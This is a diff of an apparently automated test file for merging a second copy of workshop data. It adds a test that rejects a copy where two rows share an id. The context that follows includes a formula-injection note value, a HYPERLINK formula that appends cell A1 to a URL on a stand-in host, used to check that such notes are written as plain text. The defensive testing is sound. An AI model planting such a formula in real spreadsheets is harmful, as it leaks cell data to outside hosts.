@@ -47,6 +47,20 @@ describe('bringing another copy in', () => {
     await page.getByText('Looked at 2 moves').waitFor();
   });
 
+  it('brings nothing in from a copy in which two lines share an id', async () => {
+    const page = await openMerge();
+    await chooseCopy(
+      page,
+      withRows(otherCopy, 'Moves', (rows) => [
+        ...rows,
+        ...rows.slice(0, 1).map((row) => row.with(4, -1)),
+      ]),
+    );
+    await page.getByText('In the other copy two lines of Moves share the id W-1.').waitFor();
+    expect(await page.locator('#record').count()).toBe(0);
+    expect(await tables(page)).toEqual(soundWorkshop);
+  });
+
   it('writes a note that looks like a formula as the text it is', async () => {
     const page = await openMerge();
     const note = '=HYPERLINK("http://example.invalid/?"&A1,"Invoice")';
